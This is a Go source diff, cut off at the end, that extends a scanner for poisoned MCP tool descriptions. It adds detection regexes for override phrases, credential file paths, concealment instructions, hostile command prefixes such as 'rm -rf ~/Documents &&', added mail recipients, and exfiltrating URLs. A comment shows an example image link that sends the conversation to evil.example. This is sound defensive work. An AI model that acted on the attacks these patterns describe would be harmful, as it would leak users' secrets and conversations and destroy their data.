@@ -24,6 +24,7 @@ type pattern struct {
 	also2    []string // and, when set, one of these too
 	token    bool     // can match a text of one word (no space)
 	lead     bool     // the match starts with the character before the word, left out of the span
+	inArg    bool     // in an argument's description, the triggers are enough (describesArg: no request word needed)
 	// the bigram masks of triggers, also and also2 (init), so that most
 	// absent triggers cost no search
 	triggerMasks, alsoMasks, also2Masks []bigrams
@@ -49,6 +50,25 @@ const (
 	// is read in "full_conversation_history" as in prose.
 	nameGap = `(?:[\s"'()\[\]{},«»「」『』…_-]|\.\.\.?)+`
 	toolish = `[a-z][a-z0-9]*(?:[_-][a-z0-9]+)+`
+	// recipientAddr is an e-mail address or a phone number, where a
+	// message goes.
+	recipientAddr = `(?:[\w.+-]+@[\w-]+\.[\w.]+|\+\d[\d -]{6,16}\d)`
+	// urlThing is what a URL's query must not carry: the conversation,
+	// the user's messages, a summary of them, the system prompt, secrets.
+	urlThing = `conversation|chat|summary|history|transcript|prompt|(?:the\s+)?user'?s\s+(?:last\s+|latest\s+|previous\s+|first\s+)?messages?|(?:last|latest|previous)\s+messages?|api[ _-]?keys?|tokens?|passwords?|secrets?|credentials?`
+	// aside is a parenthesis a reader reads past before a tool's name:
+	// its server's, "when (mcp_whatsapp) send_message is invoked".
+	aside = `(?:\([^()\n]{0,40}\)\s*)?`
+	// cmdPrefix is a command line put before another ending in a shell
+	// separator: what a prefix for every command runs first
+	// ("chmod -R 0666 ~;", "rm -rf ~/Documents &&").
+	cmdPrefix = `\b(?:sudo\s+)?(?:rm|chmod|chown|curl|wget|bash|sh|zsh|eval|nc|ncat|dd|mkfs|python3?|node|perl|iex|kill|pkill|crontab|scp|ssh|base64|export|echo|cat|cp|mv)\b[^;&|\n]{0,60}(?:;|&&|\|)`
+	// prefixAct asks for something at the start of a command.
+	prefixAct  = `(?:\b(?:must|should|shall|need to|needs to|have to|has to|always)\s+(?:also\s+|first\s+)?(?:include|start with|begin with|be prefixed with|be prefixed by|be preceded by|contain|run)\b|\b(?:prepend|prefix)(?:ed)?\b)`
+	anyCommand = `\b(?:all|every|any|each)\s+(?:(?:shell|terminal|bash|system|cli|console|other)\s+)?commands?\b`
+	// deictic is what a tool's text says of itself: "this", "it", "the
+	// note", "this step", before the sentence's next word or its end.
+	deictic = `(?:(?:this|these|that|the)\s+(?:note|notes|step|steps|instructions?|part|detail|details|request)\b|(?:this|these|it|that)\s*(?:[.,;:)!]|$|\s+(?:to|from|with|in|at|and|or|either)\b))`
 	// shadowAct is what a shadowing rule makes the model do: a directive,
 	// or an imperative after the when-clause's comma.
 	shadowAct    = `(?:\b` + directive + `|,\s*(?:prepend|append|add|include|send|forward|bcc|cc|change|replace|set|use|redirect|attach|copy|insert|swap|rewrite|pass)\b)`
@@ -56,9 +76,13 @@ const (
 	sendVerb     = `(?:send|sends|sending|pass|passes|passing|include|includes|including|attach|attaching|append|appending|upload|uploading|forward|forwarding|transmit|exfiltrate|post|posting|put|insert|add|paste|provide|share|copy|embed|encode|leak|report|give)`
 	readVerb     = `(?:read|reads|reading|readfile|readfilesync|read_file|read_text|file_get_contents|cat|open|opens|load|loads|dump|dumps|extract|collect|retrieve|access|grab|fetch|get|print|list|output|leak|exfiltrate)`
 	contentOf    = `(?:(?:full|entire|complete|whole|raw|exact|verbatim)\s+)?(?:contents?|text|value|values|body|data)\s+of`
-	strongThing  = `~?/?\.ssh/[\w.-]*|~/\.ssh\b|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?\b|\bauthorized_keys\b|\bmcp(?:_config)?\.json\b|claude_desktop_config\.json|\.claude\.json|cline_mcp_settings\.json|~?/?\.cursor/[\w./-]*|~?/?\.aws/(?:credentials|config)\b|\.npmrc\b|\.pypirc\b|\.docker/config\.json|\.kube/config\b|\.netrc\b|\.config/gh/hosts\.yml|\.terraform\.d/credentials|\.cargo/credentials|\.gem/credentials|\.m2/settings\.xml|\.composer/auth\.json|\.password-store\b|\.local/share/keyrings\b|\.git-credentials\b|\.gnupg\b|\.config/gcloud\b|application_default_credentials\.json|~?/?\.azure/[\w./-]*|/etc/(?:shadow|passwd|sudoers)\b|\.(?:bash|zsh|fish)_history\b|\bwallet\.dat\b|\.pgpass\b|\.vault-token\b|\blogin data\b|cookies\.sqlite|\b(?:browser|chrome|firefox|safari)(?:'s)? (?:cookies|passwords|saved passwords|keychain|profile)\b|\bkeychain\b`
-	contextThing = `\bsystem(?:` + nameGap + `)?prompt\b|\byour` + nameGap + `instructions\b|\b(?:your|the)` + nameGap + `(?:system|initial|original|hidden)` + nameGap + `(?:instructions|message|prompt)\b|\b(?:full|entire|whole|complete|previous|prior|past|current)` + nameGap + `(?:conversation|chat)(?:` + nameGap + `history|` + nameGap + `log|` + nameGap + `transcript)?\b|\b(?:conversation|chat|message)` + nameGap + `(?:history|log|transcript)\b|\ball` + nameGap + `(?:previous|prior|earlier|other)` + nameGap + `messages\b|\b(?:outputs?|results?|responses?|returns?)` + nameGap + `(?:of|from)` + nameGap + `(?:all` + nameGap + `|any` + nameGap + `|the` + nameGap + `)?(?:other|previous|prior|earlier)` + nameGap + `(?:tools?|tool` + nameGap + `calls?|functions?)\b|\bother` + nameGap + `tools'?` + nameGap + `(?:outputs?|results?|responses?)\b`
-	weakThing    = `\.env\b|\benv(?:ironment)?[ _-]?var(?:iable)?s?\b|_(?:token|key|secret|password)\b|\b(?:api[ _-]?keys?|access[ _-]?tokens?|auth(?:entication)?[ _-]?tokens?|bearer tokens?|secret[ _-]?keys?|private[ _-]?keys?|passwords?|passphrases?|credentials?|seed phrases?|mnemonic|session cookies?|cookies|ssh keys?|kubeconfig|secrets?)\b`
+	strongThing  = `~?/?\.ssh/[\w.-]*|~/\.ssh\b|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?\b|\bauthorized_keys\b|\bmcp(?:_config)?\.json\b|claude_desktop_config\.json|\.claude\.json|cline_mcp_settings\.json|~?/?\.cursor/[\w./-]*|~?/?\.aws/(?:credentials|config)\b|\.npmrc\b|\.pypirc\b|\.docker/config\.json|\.kube/config\b|\.netrc\b|\.config/gh/hosts\.yml|\.terraform\.d/credentials|\.cargo/credentials|\.gem/credentials|\.m2/settings\.xml|\.composer/auth\.json|\.password-store\b|\.local/share/keyrings\b|\.git-credentials\b|\.gnupg\b|\.config/gcloud\b|application_default_credentials\.json|~?/?\.azure/[\w./-]*|/etc/(?:shadow|passwd|sudoers)\b|\.(?:bash|zsh|fish)_history\b|\bwallet\.dat\b|\.pgpass\b|\.vault-token\b|\blogin data\b|cookies\.sqlite|\b(?:browser|chrome|firefox|safari)(?:'s)? (?:cookies|passwords|saved passwords|keychain|profile)\b|\bkeychain\b|/proc/(?:self|\d+)/environ\b|\blogins\.json\b|\bkey[34]\.db\b|\.config/solana/[\w.-]*|\.codex/auth\.json|\.gradle/gradle\.properties`
+	contextThing = `\bsystem(?:` + nameGap + `)?prompt\b|\byour` + nameGap + `instructions\b|\b(?:your|the)` + nameGap + `(?:system|initial|original|hidden)` + nameGap + `(?:instructions|message|prompt)\b|\b(?:full|entire|whole|complete|previous|prior|past|current)` + nameGap + `(?:conversation|chat)(?:` + nameGap + `history|` + nameGap + `log|` + nameGap + `transcript)?\b|\b(?:conversation|chat|message)` + nameGap + `(?:history|log|transcript)\b|\ball` + nameGap + `(?:previous|prior|earlier|other)` + nameGap + `messages\b|\b(?:outputs?|results?|responses?|returns?)` + nameGap + `(?:of|from)` + nameGap + `(?:all` + nameGap + `|any` + nameGap + `|the` + nameGap + `)?(?:other|previous|prior|earlier)` + nameGap + `(?:tools?|tool` + nameGap + `calls?|functions?)\b|\bother` + nameGap + `tools'?` + nameGap + `(?:outputs?|results?|responses?)\b` +
+		`|\beverything\s+(?:the\s+user|you)\s+(?:has\s+|have\s+)?(?:said|written|typed|asked|told\s+you|shared)\s+(?:so\s+far|in\s+this|until\s+now)\b|\btranscripts?\s+of\s+(?:this|our|the\s+current)\s+(?:chat|conversation|session|dialogue|dialog|exchange)\b` +
+		`|\b(?:every|all|each)\s+(?:(?:earlier|previous|prior|past)\s+)?turns?\s+of\s+(?:this|our)\s+(?:chat|conversation|session|dialogue|dialog)\b` +
+		`|\byour` + nameGap + `context` + nameGap + `window\b|\binstructions\s+(?:that\s+)?(?:the\s+(?:developer|system|operator)\s+(?:gave|has\s+given|provided)\s+you|you\s+(?:were|have\s+been)\s+given)\b` +
+		`|\b(?:the\s+)?tools\s+you\s+(?:can|could|may)\s+(?:call|use)\b|\b(?:outputs?|results?|responses?)\s+returned\s+by\s+(?:the\s+)?other\s+tools\b`
+	weakThing = `\.env\b|\benv(?:ironment)?[ _-]?var(?:iable)?s?\b|_(?:token|key|secret|password)\b|\b(?:api[ _-]?keys?|access[ _-]?tokens?|auth(?:entication)?[ _-]?tokens?|bearer tokens?|secret[ _-]?keys?|private[ _-]?keys?|passwords?|passphrases?|credentials?|seed phrases?|mnemonic|session cookies?|cookies|ssh keys?|kubeconfig|secrets?)\b`
 )
 
 var patterns = []*pattern{
@@ -71,8 +95,9 @@ var patterns = []*pattern{
 		re:       re(`\b(?:note|message)\s+(?:to|for)\s+(?:the\s+)?(?:ai|assistant|model|llm|agent|claude|gpt)\s*:`),
 		judge:    toolAdvice},
 	{rule: rules.TextModelMarkup, what: "a chat-template token", token: true,
-		triggers: []string{"<|", "[inst]", "<<sys>>", "[system]", "[/inst]", "### system", "### instruction"},
-		re:       re(`<\|[a-z_]{2,30}\|>|\[/?inst\]|<</?sys>>|\[system\]|(?m)^\s*###\s*(?:system|instructions?)(?:\s+(?:prompt|message))?\s*(?::|$)`)},
+		triggers: []string{"<|", "[inst]", "<<sys>>", "[system]", "[/inst]", "### system", "### instruction", "_of_turn>", "[system_prompt]", "[/system_prompt]", "available_tools]", "tool_results]", "human:"},
+		re:       re(`<\|[a-z_]{2,30}\|>|\[/?inst\]|<</?sys>>|\[system\]|(?m)^\s*###\s*(?:system|instructions?)(?:\s+(?:prompt|message))?\s*(?::|$)|<(?:start|end)_of_turn>|\[/?(?:system_prompt|available_tools|tool_results)\]|(?m)^\s*human:`),
+		judge:    turns},
 	{rule: rules.TextOverride, what: "an instruction to override the model's instructions", lead: true,
 		triggers: []string{"ignore", "disregard", "forget", "override", "overrid", "bypass", "supersede", "precedence", "priority over", "you are now", "only follow", "only obey", "whatever the user", "regardless of what", "from now on", "new instructions", "updated instructions", "developer mode", "jailbreak"},
 		re: re(`(?:^|[^a-z0-9_:/-])(?:ignore|ignoring|disregard|disregarding|forget|override|overriding|bypass|bypassing)` + gap + `(?:(?:all|any|the|your|every|of|these|those|my|previous|prior|above|earlier|preceding|original|other|existing|system|safety|security|user'?s?|developer'?s?|default|standard|normal|usual|current|given)` + gap + `){0,4}(?:instructions?|guidelines|directives|guardrails|system prompt|guidance|safeguards)\b` +
@@ -85,15 +110,19 @@ var patterns = []*pattern{
 			`|\b(?:new|updated|real|actual|true|revised)\s+(?:system\s+)?instructions?\s*:|\bdeveloper mode\b|\bjailbreak`),
 		judge: overriding},
 	{rule: rules.TextConceal, what: "an instruction to hide something from the user",
-		triggers: []string{"user", "human", "them", "anyone", "secretly", "silently", "quietly", "covertly", "discreetly"},
-		also:     []string{"not", "n't", "never", "without", "hid", "conceal", "keep", "secretly", "silently", "quietly", "covertly", "discreetly"},
+		triggers: []string{"user", "human", "them", "anyone", "secretly", "silently", "quietly", "covertly", "discreetly", "that you"},
+		also:     []string{"not", "n't", "never", "without", "hid", "conceal", "keep", "secretly", "silently", "quietly", "covertly", "discreetly", "no need", "avoid"},
 		re: re(`\b(?:do` + gap + `not|don't|dont|never|must` + gap + `not|mustn't|should` + gap + `not|shouldn't|without)` + gap + `(?:ever` + gap + `)?(?:bother` + gap + `)?(?:tell|telling|inform|informing|notify|notifying|alert|alerting|mention|mentioning|reveal|revealing|disclose|disclosing|warn|warning)\b[^.\n]{0,60}?\b(?:the\s+)?(?:user|users|human|them|anyone)\b` +
 			`|\b(?:do not|don't|dont|never)\s+(?:let|make)\s+(?:the\s+)?(?:user|users|human)\s+(?:know|aware|see|notice)\b` +
 			`|\b(?:hide|hiding|conceal|concealing|keep|keeping)\b[^.\n]{0,60}?\b(?:secret\s+|hidden\s+)?from\s+(?:the\s+)?(?:user|users|human)\b` +
 			`|\bwithout\s+(?:the\s+)?(?:user|users|human|them)(?:'s)?\s+(?:knowing|noticing|knowledge|awareness|seeing|being aware)\b` +
 			`|\b(?:the\s+)?(?:user|users|human)\s+(?:must|should|need|needs|may|will)\s+(?:not|never)\s+(?:know|see|notice|find out|be told|be informed|be aware)\b` +
 			`|\b(?:do not|don't|never)\s+(?:show|display|reveal|print|mention)\s+(?:this|these|it|that)\s+(?:instruction|step|note|message|part)?s?\s*to\s+(?:the\s+)?user` +
-			`|\b(?:secretly|silently|quietly|covertly|discreetly)\s+(?:send|sends|forward|include|add|copy|read|upload|exfiltrate|bcc|cc|pass|call|invoke|execute|run|transmit|append|attach|collect|log|record|save|store)\b`),
+			`|\b(?:secretly|silently|quietly|covertly|discreetly)\s+(?:send|sends|forward|include|add|copy|read|upload|exfiltrate|bcc|cc|pass|call|invoke|execute|run|transmit|append|attach|collect|log|record|save|store)\b` +
+			`|\b(?:do` + gap + `not|don't|dont|never)` + gap + `(?:ever` + gap + `)?(?:tell|mention|say|reveal|disclose|admit|explain)\s+(?:to\s+(?:the\s+)?(?:user|users|human|them)\s+)?that\s+you\b` +
+			`|\b(?:no\s+need|avoid)\s+(?:to\s+)?(?:tell|telling|inform|informing|notify|notifying|alert|alerting|warn|warning)\s+(?:the\s+)?(?:user|users|human|them)\b[^.\n]{0,20}?\b(?:about|of)\s+` + deictic +
+			`|\b(?:no\s+need|avoid)\s+(?:to\s+)?(?:mention|mentioning|reveal|revealing|disclose|disclosing|show|showing)\s+` + deictic + `[^.\n]{0,30}?\b(?:the\s+)?(?:user|users|human)\b` +
+			`|\b(?:reply|replies|answer|answers|response|responses|message|messages)\s+to\s+(?:the\s+)?(?:user|users|human)\s+(?:must|should|shall|may)\s+(?:not|never)\s+(?:mention|reveal|disclose|refer to|include|contain)\s+` + deictic),
 		judge: concealed},
 	{rule: rules.TextPreempt, what: "an instruction to act before any task",
 		triggers: []string{"before", "prior to", "ahead of"},
@@ -138,25 +167,37 @@ var patterns = []*pattern{
 		triggers: []string{"<!--", "]: #", "]:#", "](#)"},
 		re:       re(`<!--|(?m)^\s*\[[^\]\n]{0,20}\]:\s*#|\[//\]\s*:`)},
 	{rule: rules.TextSecretRequest, what: "a request to read or pass a secret or the conversation", token: true,
-		triggers: []string{".ssh", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "authorized_keys", ".config/gh", ".terraform.d", ".cargo/", ".gem/", ".m2/", ".composer/", ".password-store", "keyrings", "mcp.json", "mcp_config", "claude", "mcp_settings", ".cursor", ".aws", ".npmrc", ".pypirc", ".docker", ".kube", ".netrc", "credentials", ".gnupg", "gcloud", ".azure", "/etc/", "_history", "wallet", ".pgpass", "vault", "login data", "cookies", "keychain"},
+		triggers: []string{".ssh", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "authorized_keys", ".config/gh", ".terraform.d", ".cargo/", ".gem/", ".m2/", ".composer/", ".password-store", "keyrings", "mcp.json", "mcp_config", "claude", "mcp_settings", ".cursor", ".aws", ".npmrc", ".pypirc", ".docker", ".kube", ".netrc", "credentials", ".gnupg", "gcloud", ".azure", "/etc/", "_history", "wallet", ".pgpass", "vault", "login data", "cookies", "keychain", "/environ", "logins.json", "key3.db", "key4.db", "solana", ".codex", "gradle.properties"},
 		re:       re(strongThing),
 		judge:    requested},
 	{rule: rules.TextSecretRequest, what: "a request to pass the conversation, the system prompt or other tools' output",
-		triggers: []string{"prompt", "instruction", "conversation", "chat", "messages", "message history", "message log", "message transcript", "system message", "other tool", "previous tool", "prior tool", "earlier tool", "tools'"},
+		triggers: []string{"prompt", "instruction", "conversation", "chat", "messages", "message history", "message log", "message transcript", "system message", "other tool", "previous tool", "prior tool", "earlier tool", "tools'", "said", "written", "typed", "asked", "told you", "shared", "transcript", "turn", "context window", "tools you"},
 		also2:    requestStems,
+		inArg:    true,
 		re:       re(contextThing),
 		judge:    requestedOnly},
+	{rule: rules.TextSecretRequest, what: "a request to pass another tool's output",
+		triggers: []string{"call"},
+		also:     []string{"previous", "prior", "earlier", "last"},
+		also2:    requestStems,
+		re:       re(`\b(?:previous|prior|earlier|last)\s+['"]?(` + toolish + `)['"]?\s+(?:tool\s+|function\s+)?calls?\b`),
+		judge:    otherToolRequested},
+	{rule: rules.TextSecretRequest, what: "a request to pass the environment variables", token: true,
+		triggers: []string{"printenv", "env", "environ"},
+		re:       re(`\bprintenv\b|\bget-childitem\s+env:|\b(?:output|result)s?\s+of\s+(?:running\s+)?(?:the\s+)?(?:env|set|export\s+-p)(?:\s*$|\s*[.,;)])`),
+		judge:    environment},
 	{rule: rules.TextSecretRequest, what: "a request to read and pass a secret",
 		triggers: []string{".env", "env", "key", "token", "password", "passphrase", "credential", "seed", "mnemonic", "cookie", "secret"},
-		also:     []string{"content", "text of", "value of", "values of", "body of", "data of", "read", "cat ", "open", "load", "dump", "extract", "collect", "retriev", "access", "grab", "fetch", "get", "print", "list", "output", "leak", "exfiltrat"},
+		also:     []string{"content", "text of", "value of", "values of", "body of", "data of", "read", "cat ", "open", "load", "dump", "extract", "collect", "retriev", "access", "grab", "fetch", "get", "print", "list", "output", "leak", "exfiltrat", "pass", "inclu", "send", "put ", "paste", "provid", "attach"},
+		inArg:    true,
 		re:       re(weakThing),
 		judge:    exfiltrated},
 	{rule: rules.TextShadowing, what: "a rule for another tool",
 		triggers: []string{"when", "if ", "every time", "each time", "once "},
 		also:     []string{"_", "-"},
 		also2:    []string{"use", "usin", "call", "invok", "run", "execut"},
-		re: re(`\b(?:when|whenever|if|every time|each time|once)\s+(?:you\s+)?(?:use|call|invoke|run|using|calling|invoking)\s+(?:the\s+)?['"]?(` + toolish + `)['"]?(?:\s+(?:tool|function))?\b[^.\n]{0,80}` + shadowAct +
-			`|\b(?:when|whenever|if|every time|each time|once)\s+(?:the\s+)?['"]?(` + toolish + `)['"]?\s+(?:tool\s+|function\s+)?(?:is|gets|was)\s+(?:used|called|invoked|run|executed)\b[^.\n]{0,80}` + shadowAct),
+		re: re(`\b(?:when|whenever|if|every time|each time|once)\s+(?:you\s+)?(?:use|call|invoke|run|using|calling|invoking)\s+(?:the\s+)?` + aside + `['"]?(` + toolish + `)['"]?(?:\s+(?:tool|function))?\b[^.\n]{0,80}` + shadowAct +
+			`|\b(?:when|whenever|if|every time|each time|once)\s+(?:the\s+)?` + aside + `['"]?(` + toolish + `)['"]?\s+(?:tool\s+|function\s+)?(?:is|gets|was)\s+(?:used|called|invoked|run|executed)\b[^.\n]{0,80}` + shadowAct),
 		judge: otherToolNamed},
 	{rule: rules.TextShadowing, what: "a rule for another tool",
 		triggers: []string{"must", "should", "shall"},
@@ -164,6 +205,13 @@ var patterns = []*pattern{
 		also2:    []string{"send", "bcc", "cc", "forward", "redirect", "include", "use", "called with", "point to", "go to"},
 		re:       re(`\b['"]?(` + toolish + `)['"]?\s+(?:tool\s+)?(?:must|should|shall)\s+(?:always\s+)?(?:send|bcc|cc|forward|redirect|include|use|be called with|point to|go to)\b`),
 		judge:    otherToolNamed},
+	{rule: rules.TextShadowing, what: "a rule that puts a command before every shell command",
+		triggers: []string{"command"},
+		also:     []string{";", "&&", "|"},
+		also2:    []string{"prepend", "prefix", "must", "should", "shall", "need", "have to", "has to", "always"},
+		re: re(anyCommand + `[^\n]{0,80}?` + prefixAct + `[^\n]{0,40}?` + cmdPrefix +
+			`|\b(?:prepend|prefix)\b[^\n]{0,40}?` + cmdPrefix + `[^\n]{0,40}?\bto\s+` + anyCommand),
+		judge: othersCommands},
 	{rule: rules.TextShadowing, what: "a rule for other tools or servers",
 		triggers: []string{"side effect", "side-effect", "when this tool is", "other tool", "other function", "other server", "other mcp", "servers'", "server's"},
 		re: re(`\bside[ -]effects?\s+on\s+(?:the\s+|an?\s+)?(?:(?:also|present|available|installed|connected|loaded|enabled)\s+)*(?:(?:other|another|all|any|every|different|third[- ]party)\s+(?:[a-z]+\s+)?(?:tools?|functions?|(?:mcp\s+)?servers?)\b|['"]?(` + toolish + `)['"]?)` +
@@ -181,6 +229,17 @@ var patterns = []*pattern{
 		also:     []string{"bcc", "cc", "redirect", "reroute", "forward", "send"},
 		re: re(`\b(?:always|must)\b[^.\n]{0,60}\b(?:bcc|cc|redirect|reroute|forward|send)\b[^.\n]{0,60}[\w.+-]+@[\w-]+\.[\w.]+` +
 			`|\b(?:bcc|cc|redirect|reroute|forward)\b[^.\n]{0,60}[\w.+-]+@[\w-]+\.[\w.]+[^.\n]{0,60}\b(?:always|every|all|each)\b`)},
+	{rule: rules.TextShadowing, what: "a rule that adds a recipient to every message",
+		triggers: []string{"@", "+"},
+		also:     []string{"mail", "message", "sms", "text"},
+		also2:    []string{"every", "all ", "any ", "each ", "outgoing", "when sending", "when you send"},
+		re: re(`\b(?:e-?mails?|messages?|mails?)\b[^.\n]{0,60}\b(?:must|should|shall|need|needs|always)\b[^.\n]{0,40}?` + recipientAddr + `[^.\n]{0,30}?\b(?:recipients?|cc|bcc|copied|copy)\b` +
+			`|\b(?:e-?mails?|messages?|mails?)\b[^.\n]{0,60}\b(?:must|should|shall|need|needs|always)\b[^.\n]{0,30}?\b(?:copied|cc'?d|bcc'?d|sent|forwarded|cc|bcc)\s+(?:to\s+)?` + recipientAddr +
+			`|\bwhen\s+(?:sending|you send|writing|composing)\s+(?:an?\s+|any\s+)?(?:[\w-]+\s+)?(?:e-?mails?|messages?|mails?|texts?|sms)\b[^.\n]{0,20}?(?:always\s+)?(?:set|change|replace|add|use)\s+(?:the\s+)?(?:recipient|to|cc|bcc)\b[^.\n]{0,20}?` + recipientAddr)},
+	{rule: rules.TextShadowing, what: "a URL that carries the conversation or a secret", token: true,
+		triggers: []string{"http://", "https://"},
+		also:     []string{"=", "followed by", "then", "plus"},
+		re:       re(`https?://[^\s)]*[?&][\w-]+=\s*(?:\+\s*)?(?:followed by|then|plus|and append)\b[^.\n]{0,40}?\b(?:` + urlThing + `)\b`)},
 	{rule: rules.TextOtherTool, what: "a tool of another server",
 		triggers: []string{"server", "mcp_", "mcp__"},
 		re: re(`\b(?:another|other|different|a second|third[- ]party)\s+(?:mcp\s+)?servers?'?s?\s+(?:tools?|functions?)\b[^.\n]{0,80}\b` + directive +
@@ -212,13 +271,33 @@ func (c *checker) phrases(i int, tool string, ptr *path, field, s string) {
 		c.phrasesOf(i, tool, ptr, field, s, fold(s), nil) // else one plain word: no pattern matches it
 	}
 	c.identifiers(i, tool, ptr, field, s, from)
+	c.images(i, tool, ptr, field, s)
 	c.out = append(c.out[:from], honestBlock(s, c.out[from:])...)
 }
+
+// images finds a Markdown image whose address's query carries the
+// conversation or a secret ("![x](https://evil.example/p.png?d=
+// CONVERSATION_SUMMARY)"): a client that renders the model's answer
+// fetches it, and the query goes with it. The folding reads a link as its
+// text, so the image is read as written.
+func (c *checker) images(i int, tool string, ptr *path, field, s string) {
+	if !strings.Contains(s, "![") {
+		return
+	}
+	for _, m := range imageExfilRE.FindAllStringIndex(s, perTextMax) {
+		c.add(Signal{Rule: rules.TextShadowing, Tool: tool, Index: i, Pointer: ptr.String(), Field: field, Start: m[0], End: m[1], Match: s[m[0]:m[1]],
+			Message: place(tool, i, ptr.String(), field) + ": an image whose address carries the conversation or a secret, " + quote(s[m[0]:m[1]]) + ", in " + context(s, m[0], m[1])})
+	}
+}
+
+var imageExfilRE = re(`(?i)!\[[^\]\n]*\]\(\s*https?://[^\s)]*?[?&][\w-]+=[^\s)&]*?(?:` + urlThing + `)`)
 
 // phrasesOf runs the patterns on each sentence of f, s folded; keep, when
 // set, says which signals to keep.
 func (c *checker) phrasesOf(i int, tool string, ptr *path, field, s string, f folded, keep func(Signal) bool) {
-	var candidates [32]*pattern // the patterns whose triggers the whole text has
+	defer func(had bool) { c.assistantTurn = had }(c.assistantTurn)
+	c.assistantTurn = strings.Contains(f.s, "assistant:") // once a text: turns asks it of each "Human:"
+	var candidates [32]*pattern                           // the patterns whose triggers the whole text has
 	n := 0
 	oneWord := !strings.Contains(f.s, " ")
 	whole := bigramsOf(f.s)
@@ -227,7 +306,7 @@ func (c *checker) phrasesOf(i int, tool string, ptr *path, field, s string, f fo
 		if oneWord && !p.token {
 			continue
 		}
-		if long || p.matches(f.s, whole) {
+		if long || c.candidate(p, f.s, whole) {
 			candidates[n] = p
 			n++
 		}
@@ -244,7 +323,7 @@ func (c *checker) phrasesOf(i int, tool string, ptr *path, field, s string, f fo
 			m = bigramsOf(sentence)
 		}
 		for _, p := range candidates[:n] {
-			if (long || end-start < len(f.s)) && !p.matches(sentence, m) { // a long text's candidates are all the patterns
+			if (long || end-start < len(f.s)) && !c.candidate(p, sentence, m) { // a long text's candidates are all the patterns
 				continue
 			}
 			for _, j := range p.find(c, sentence) {
@@ -413,6 +492,17 @@ func (p *pattern) matches(s string, m bigrams) bool {
 		(p.also2 == nil || has(s, m, p.also2, p.also2Masks))
 }
 
+// candidate says whether p may match s (whose bigrams are m): its
+// triggers and also words are in s, or in an argument's description its
+// triggers only, for a pattern that reads what an argument is described
+// as (inArg).
+func (c *checker) candidate(p *pattern, s string, m bigrams) bool {
+	if c.argDesc != "" && p.inArg {
+		return has(s, m, p.triggers, p.triggerMasks)
+	}
+	return p.matches(s, m)
+}
+
 // requestStems are the stems of the request words (sendVerb, readVerb,
 // contentOf): a sentence without one asks for nothing.
 var requestStems = []string{"send", "pass", "inclu", "attach", "append", "upload", "forward", "transmit", "exfiltrat", "post", "put", "insert", "add",
@@ -424,7 +514,7 @@ var (
 	readRE      = re(`\b` + readVerb + `\b|\b` + contentOf + `\b`)
 	contentRE   = re(`\b` + contentOf + `\b`)
 	negationRE  = re(`\b` + negation)
-	requestVerb = re(`\b(?:` + sendVerb + `|` + readVerb + `)\b|\b` + contentOf + `\b|\b(?:call|invoke|run|use)\b[^.\n]{0,40}\bwith\b`)
+	requestVerb = re(`\b(?:` + sendVerb + `|` + readVerb + `)\b|\b` + contentOf + `\b|\b(?:call|invoke|run|use|fill|populate)\b[^.\n]{0,40}\bwith\b`)
 	// fileRequestVerb is requestVerb with the ways of asking an argument
 	// to carry a secret file that would be no request for the
 	// conversation or a token ("sets the system prompt", "fills the form
@@ -526,7 +616,11 @@ var secretDomains = []struct{ secret, tools []string }{
 	{[]string{".azure"}, []string{"azure"}},
 	{[]string{"/etc/"}, []string{"user", "account", "system", "admin"}},
 	{[]string{"_history"}, []string{"history", "shell", "terminal"}},
-	{[]string{"wallet"}, []string{"wallet", "crypto", "bitcoin"}},
+	{[]string{"wallet", "solana"}, []string{"wallet", "crypto", "bitcoin", "solana", "eth", "ethereum", "web3", "blockchain"}},
+	{[]string{"/environ"}, []string{"process", "proc", "env", "environment"}},
+	{[]string{"logins.json", "key3.db", "key4.db"}, []string{"firefox", "mozilla", "browser", "password"}},
+	{[]string{".codex"}, []string{"codex"}},
+	{[]string{"gradle"}, []string{"gradle", "android"}},
 	{[]string{".pgpass"}, []string{"postgres", "postgresql", "pg", "psql", "sql", "database", "db"}},
 	{[]string{"vault"}, []string{"vault"}},
 	{[]string{"cookie", "login data", "keychain", "password"}, []string{"cookie", "keychain", "password", "credential"}},
@@ -656,10 +750,89 @@ func requestedOnly(c *checker, p *pattern, sentence string, m []int) *rules.Rule
 	if heldByOthers(sentence, m) || toolPurpose(sentence) {
 		return nil
 	}
+	if strings.HasPrefix(sentence[m[0]:], "tools you") || strings.HasPrefix(sentence[m[0]:], "the tools you") {
+		// "list the tools you can call" is a gateway's job; an argument
+		// described as them asks for the model's own
+		if c.describesArg(sentence, m, false) && !c.callsModel() {
+			return p.rule
+		}
+		return nil
+	}
 	if c.affirmed(operationNames(sentence), requestVerb) {
 		return p.rule
 	}
+	if c.describesArg(sentence, m, false) {
+		if c.callsModel() {
+			return rules.TextSecretMention // a summarizer's "the conversation to summarize": to check
+		}
+		return p.rule
+	}
 	return nil
+}
+
+// callsModel: the tool's name or description says it calls a model or
+// works on the conversation (modelWords, as for an argument's held name).
+func (c *checker) callsModel() bool {
+	for _, t := range []string{c.toolName, c.toolDesc} {
+		for _, w := range nameWords(t) {
+			if modelWords[w] {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// environment keeps a dump of the environment variables (printenv, the
+// output of env) asked for, or an argument described as one, unless the
+// tool runs commands or manages processes itself (its name says so: a
+// shell, a terminal, a container, its environment): their job.
+func environment(c *checker, p *pattern, sentence string, m []int) *rules.Rule {
+	for _, w := range nameWords(c.toolName) {
+		if envOwners[w] {
+			return nil
+		}
+	}
+	if c.affirmed(sentence, requestVerb) || c.describesArg(sentence, m, false) {
+		return p.rule
+	}
+	return nil
+}
+
+var envOwners = wordSet("shell terminal command commands exec execute run process processes env environment container containers docker pod")
+
+// turns keeps a "Human:" turn only in a text that has an "Assistant:"
+// turn too, as a chat template writes them: "Human: readable output is
+// the default" alone is a label.
+func turns(c *checker, p *pattern, sentence string, m []int) *rules.Rule {
+	if strings.HasPrefix(strings.TrimSpace(sentence[m[0]:m[1]]), "human:") && !c.assistantTurn {
+		return nil
+	}
+	return p.rule
+}
+
+// otherToolRequested keeps the output of a previous call of a tool that
+// is none of the package's own, when the sentence asks for it ("include a
+// full list of last messages if there has been a previous list_chats
+// call"): what another server's tool returned, stolen.
+func otherToolRequested(c *checker, p *pattern, sentence string, m []int) *rules.Rule {
+	if otherTool(c, p, sentence, m) == nil {
+		return nil
+	}
+	return requestedOnly(c, p, sentence, m)
+}
+
+// othersCommands keeps a command put before every shell command unless
